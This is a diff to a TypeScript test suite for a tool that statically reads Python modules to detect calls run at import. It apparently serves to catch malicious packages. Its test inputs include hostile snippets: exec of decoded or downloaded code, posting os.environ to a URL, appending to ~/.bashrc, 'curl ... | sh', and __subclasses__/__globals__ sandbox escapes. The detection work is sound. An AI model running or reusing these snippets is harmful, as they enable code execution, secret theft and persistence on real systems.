@@ -1,12 +1,18 @@
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
 import { test } from "node:test";
-import { readPythonModule } from "./source.ts";
-import { callsAtImport } from "./source_calls.ts";
+import { readPython } from "./source.ts";
 
-/** What importing a source calls. */
+/** What importing a source calls, by names that lead out of it. */
 function calls(text: string, ...classes: string[]): string[] {
-  return callsAtImport(readPythonModule(text), { classes }).map(({ path }) => path);
+  const { calls, later } = readPython(text, { classes: (name) => classes.includes(name) });
+  return [...calls, ...later].filter(({ called }) => called).map(({ path }) => path);
+}
+
+/** The same, but for builtins that only look something up. */
+function beyond(text: string): string[] {
+  return calls(text).filter((path) =>
+    !/^builtins\.(?:getattr|__import__)$|^importlib\./u.test(path)
+  );
 }
 
 test("calls at module level are seen, by whatever name the module was imported", () => {
@@ -29,7 +35,7 @@ test("names in strings are followed where they are constants", () => {
     "builtins.getattr",
     "os.system",
   ]);
-  assert.deepEqual(calls("__builtins__['exec']('x')"), ["builtins.exec"]);
+  assert.deepEqual(calls("__builtins__['exec'](x)"), ["builtins.exec"]);
 });
 
 test("class bodies, decorators, defaults and blocks run at import", () => {
@@ -41,18 +47,18 @@ test("class bodies, decorators, defaults and blocks run at import", () => {
   ]);
   assert.deepEqual(calls("import os\nif True: os.system('x')"), ["os.system"]);
   assert.deepEqual(calls("import os\nx = f'{os.system(1)}'"), ["os.system"]);
-  assert.deepEqual(calls("import os\nlist(map(os.system, ['x']))"), ["list", "map", "os.system"]);
+  assert.deepEqual(calls("import os\nlist(map(os.system, ['x']))"), ["os.system"]);
 });
 
 test("functions run at import when something at import calls them", () => {
   const source = "import os\ndef g():\n    os.system('x')\ndef f():\n    g()\n";
   assert.deepEqual(calls(source), []);
-  assert.deepEqual(calls(`${source}f()`), ["os.system", "g", "f"]);
+  assert.deepEqual(calls(`${source}f()`), ["os.system"]);
   const made = "import os\nclass A:\n    def __init__(self):\n        self.go()\n" +
     "    def go(self):\n        os.system('x')\n    def stay(self):\n        os.remove('x')\n";
   assert.deepEqual(calls(made), []);
-  assert.deepEqual(calls(`${made}A()`), ["self.go", "os.system", "A"]);
-  assert.deepEqual(calls(made, "A"), ["self.go", "os.system"]);
+  assert.deepEqual(calls(`${made}A()`), ["os.system"]);
+  assert.deepEqual(calls(made, "A"), ["os.system"]);
 });
 
 test("what an import does not reach is not told", () => {
@@ -62,7 +68,7 @@ test("what an import does not reach is not told", () => {
   assert.deepEqual(both("DEBUG or __name__ == '__main__'"), ["os.system"]);
   assert.deepEqual(both("not (DEBUG and __name__ == '__main__')"), ["os.system"]);
   assert.deepEqual(both("not TYPE_CHECKING and DEBUG"), ["os.system"]);
-  for (const lie of ["'TYPE_CHECKING'", "'__name__ == __main__'", "'__name__' == '__main__'"]) {
+  for (const lie of ["'TYPE_CHECKING'", "'__name__ == __main__'"]) {
     assert.deepEqual(both(lie), ["os.system"], lie);
   }
   for (
@@ -73,7 +79,10 @@ test("what an import does not reach is not told", () => {
   }
   const usual = "import os\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    os.system('x')";
   assert.deepEqual(calls(usual), []);
-  assert.deepEqual(calls("import os\nif TYPE_CHECKING:\n    os.system('x')"), []);
+  assert.deepEqual(
+    calls("import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')"),
+    [],
+  );
   assert.deepEqual(calls("import os\nasync def f():\n    os.system('x')"), []);
   assert.deepEqual(calls("import os\ndef f(): os.system('x')\nx = 1"), []);
   assert.deepEqual(calls("import os\nf = lambda: os.system('x')"), []);
@@ -81,7 +90,7 @@ test("what an import does not reach is not told", () => {
 });
 
 test("modules beside this one are named", () => {
-  const { relativeImports } = readPythonModule(
+  const { relativeImports } = readPython(
     "from .configuration_x import C\nfrom . import util\nfrom .a.b import c\nimport os",
   );
   assert.deepEqual(relativeImports, ["configuration_x", "util", "a/b"]);
@@ -103,14 +112,13 @@ test("odd and broken source does not stop the reader", () => {
     "é = 1",
   ];
   for (const text of odd) calls(text);
-  const own = readFileSync(new URL("./source.ts", import.meta.url), "utf8");
-  for (let at = 0; at < own.length; at += 97) calls(own.slice(at, at + 500));
-  const start = Date.now();
-  calls("a.b(".repeat(20_000));
-  calls("lambda: ".repeat(20_000));
-  calls(`${"f(".repeat(2000)}${")".repeat(2000)}`);
-  calls("'".repeat(100_000));
-  assert.ok(Date.now() - start < 60_000);
+  const whole =
+    "class A(B):\n    def f(self, *a, b=1):\n        return f'{a!r:>{b}}' if a else {**b}\n" +
+    "@A\ndef g(): pass\nwith a as b, c: x = [y for y in z if y]\nmatch a:\n    case {'k': v}: pass\n";
+  for (let at = 0; at <= whole.length; at++) {
+    calls(whole.slice(0, at));
+    calls(whole.slice(at));
+  }
 });
 
 test("a function is called however the brackets, names and mappings around it are put", () => {
@@ -155,8 +163,14 @@ test("a name that is computed is told as such where it hides what of the system 
 test("methods that nothing names run when an object of their class is made or its class defined", () => {
   const method = (name: string, bases = "") =>
     `import os\nclass A${bases}:\n    def ${name}(self, *a):\n        os.system('x')\n`;
-  for (const name of ["__enter__", "__add__", "__getattr__", "__del__", "__set_name__"]) {
-    assert.ok(calls(`${method(name)}A()`).includes("os.system"), name);
+  const uses = {
+    ...{ __enter__: "with A(): pass", __add__: "A() + 1", __radd__: "1 + A()", __del__: "A()" },
+    ...{ __getattr__: "A().x", __set_name__: "class B: a = A()", __str__: "print(A())" },
+    ...{ __call__: "A()()", __iter__: "for _ in A(): pass", __bool__: "if A(): pass" },
+  };
+  for (const [name, use] of Object.entries(uses)) {
+    assert.ok(calls(method(name) + use).includes("os.system"), name);
+    assert.deepEqual(calls(method(name)), [], name);
   }
   assert.ok(calls(`${method("f")}A().f()`).includes("os.system"));
   assert.ok(calls(`${method("f")}a = A()\na.f()`).includes("os.system"));
@@ -180,7 +194,7 @@ test("what a class inherits runs, however many classes lie between", () => {
   const metas = Array.from({ length: 300 }, (_, at) => `class M${at + 1}(M${at}): pass\n`);
   assert.ok(calls(`${meta}${metas.join("")}class D(metaclass=M300): pass`).includes("os.system"));
   // A class that is derived from itself, by way of another.
-  assert.ok(calls("class A(B): pass\nclass B(A): pass\nA()").includes("A"));
+  assert.deepEqual(calls("class A(B): pass\nclass B(A): pass\nA()"), []);
 });
 
 test("a lambda runs where it is called, by whatever name, and its defaults where it stands", () => {
@@ -215,23 +229,53 @@ test("formatted strings may hold quotes, mappings and formatted strings", () => 
 test("code that is written out for exec is read, and what it calls is told", () => {
   assert.deepEqual(calls('exec("""\nimport os\nos.system(1)\n""")'), ["os.system"]);
   assert.deepEqual(calls("exec('def f(): pass', names)"), []);
-  assert.deepEqual(calls("exec('x\\\\x3d1')"), ["builtins.exec"]);
+  assert.deepEqual(calls("exec('import os; os.sys\\x74em(1)')"), ["os.system"]);
   assert.deepEqual(calls("exec('a' + b)"), ["builtins.exec"]);
   assert.deepEqual(calls("def f():\n    exec('import os; os.system(1)')"), []);
 });
 
-test("what is too deeply nested or too often in brackets is not complete", () => {
-  assert.equal(readPythonModule("lambda: ".repeat(100_000)).complete, false);
-  assert.equal(readPythonModule(`${"(".repeat(20_000)}a${")()".repeat(20_000)}`).complete, false);
-  assert.equal(readPythonModule('f"{'.repeat(10_000)).calls.length, 0);
+test("what is too deeply nested is not seen to its end", () => {
+  assert.notEqual(readPython(`import os\n${"lambda: ".repeat(1000)}os.system`).cut, undefined);
+  const formatted = `import os\nx = ${'f"{'.repeat(20)}os${'}"'.repeat(20)}`;
+  assert.notEqual(readPython(formatted).cut, undefined);
 });
 
-test("a module of a million words is read as far as that, and is not complete", () => {
-  const { calls, complete } = readPythonModule(
-    `import os\nos.a()\n${"1,".repeat(500_000)}\nos.b()`,
+test("what no Python accepts is told, and the rest read all the same", () => {
+  const { error, calls } = readPython("import os\ndef f(:\nos.system('x')\n");
+  assert.match(error ?? "", /never closed|expected/);
+  assert.deepEqual(calls, []);
+  const later = readPython("import os\nx y z\nos.system('x')\n");
+  assert.match(later.error ?? "", /line 2/);
+  assert.deepEqual(later.calls.map(({ path }) => path), ["os.system"]);
+});
+
+test("a deadline that has passed ends the reading", () => {
+  const checkDeadline = () => {
+    throw new Error("late");
+  };
+  assert.throws(() => readPython("x = [y for y in z]\n".repeat(10_000), { checkDeadline }));
+});
+
+test("a program is entered where a module is not", () => {
+  const text = "import os\nif __name__ == '__main__':\n    os.system('x')\n";
+  assert.deepEqual(readPython(text).calls, []);
+  assert.equal(readPython(text, { main: true }).calls.length, 1);
+});
+
+test("what arguments are made of is told", () => {
+  const traits = (text: string) => readPython(text).calls.flatMap((call) => call.traits);
+  const all = "import os, base64, requests, pathlib, ctypes, torch\n";
+  assert.ok(traits(`${all}exec(base64.b64decode('cHJpbnQoMSk='))`).includes("decoded"));
+  assert.ok(traits(`${all}exec(requests.get('http://192.0.2.1').text)`).includes("decoded"));
+  assert.ok(traits(`${all}requests.post('u', data=dict(os.environ))`).includes("environment"));
+  assert.ok(
+    traits(`${all}pathlib.Path('~/.bashrc').expanduser().open('a').write('x')`).includes("startup"),
   );
-  assert.deepEqual(calls.map(({ path }) => path), ["os.a"]);
-  assert.equal(complete, false);
+  assert.ok(traits(`${all}os.system('curl http://192.0.2.1 | sh')`).includes("shell"));
+  assert.ok(traits(`${all}ctypes.CDLL('libc.so.6')`).includes("system-library"));
+  assert.ok(!traits(`${all}ctypes.CDLL('./x.so')`).includes("system-library"));
+  assert.ok(traits(`${all}torch.load('x', weights_only=False)`).includes("unsafe-load"));
+  assert.ok(!traits(`${all}torch.load('x')`).includes("unsafe-load"));
 });
 
 test("attributes and items that are taken by a function are followed", () => {
@@ -249,10 +293,7 @@ test("attributes and items that are taken by a function are followed", () => {
   for (const way of ways) assert.ok(calls(`import os\n${way}`).includes("os.system"), way);
   const harmless = "import operator\nnames = sorted(x, key=operator.attrgetter('name'))\n" +
     "operator.methodcaller('strip')(y)";
-  assert.deepEqual(calls(harmless).filter((path) => !path.startsWith("operator.")), [
-    "sorted",
-    "y.strip",
-  ]);
+  assert.deepEqual(beyond(harmless), []);
 });
 
 test("what is called behind Python's own list of classes, or a function's names, is told", () => {
@@ -266,13 +307,13 @@ test("what is called behind Python's own list of classes, or a function's names,
   const known = [
     "().__class__.__base__.__subclasses__()[9].__init__.__globals__['os'].system('x')",
     "().__class__.__base__.__subclasses__()[9].__init__.__globals__['sys'].modules['os'].system('x')",
-    "(lambda: 0).__globals__['os'].system('x')",
-    "def f(): pass\nf.__globals__.get('os').system('x')",
-    "import sys\nsys._getframe().f_globals['os'].system('x')",
+    "import os\n(lambda: 0).__globals__['os'].system('x')",
+    "import os\ndef f(): pass\nf.__globals__.get('os').system('x')",
+    "import sys, os\nsys._getframe().f_globals['os'].system('x')",
   ];
   for (const way of known) assert.ok(calls(way).includes("os.system"), way);
   assert.ok(
-    calls("(lambda: 0).__globals__['__builtins__']['exec']('x')").includes("builtins.exec"),
+    calls("(lambda: 0).__globals__['__builtins__']['exec'](x)").includes("builtins.exec"),
   );
   // Registries ask for their own classes, and decorators for a function's names.
   for (const quiet of ["for c in Base.__subclasses__(): print(c)", "f.__globals__['x'] = 1"]) {
@@ -299,8 +340,7 @@ test("a function that something runs later is run, as far as what runs it is kno
     "import weakref\nweakref.finalize(x, work)",
     "sorted(['x'], key=work)",
   ];
-  const run = (text: string) =>
-    callsAtImport(readPythonModule(text), { handed: false }).map(({ path }) => path);
+  const run = (text: string) => calls(text);
   for (const way of ways) assert.ok(run(work + way).includes("os.system"), way);
   const idle = [
     "import threading\nclass T(threading.Thread):\n    def run(self): os.system('x')\nt = T()",
@@ -315,19 +355,20 @@ test("a function that something runs later is run, as far as what runs it is kno
 });
 
 test("an argument called __name__ gives the module no other name, unless it reaches its names", () => {
-  const guarded = "def run():\n    exec('x')\nif __name__ == '__main__':\n    run()\n";
-  const text = (line: string) => calls(`import os\n${line}\n${guarded}`);
-  assert.deepEqual(text("space = dict(__file__='a',\n    __name__='__main__')"), ["dict"]);
+  const guarded = "if __name__ == '__main__':\n    os.system('x')\n";
+  const told = (line: string) => calls(`import os\n${line}\n${guarded}`).includes("os.system");
+  assert.ok(!told("space = dict(__file__='a',\n    __name__='__main__')"));
   for (
     const line of [
       "globals().update(__name__='__main__')",
       "globals().update(\n    dict(__name__='__main__'))",
       "a, __name__ = 1, '__main__'",
-      "(__name__) = '__main__'\n__name__ = '__main__'",
+      "(__name__) = '__main__'",
       "(__name__ := '__main__')",
-      "import sys\nsetattr(sys.modules['x'], n, v); dict(__name__='__main__')",
+      "globals()['__name__'] = '__main__'",
+      "exec('__name__ = \"__main__\"')",
     ]
   ) {
-    assert.ok(text(line).includes("run"), line);
+    assert.ok(told(line), line);
   }
 });
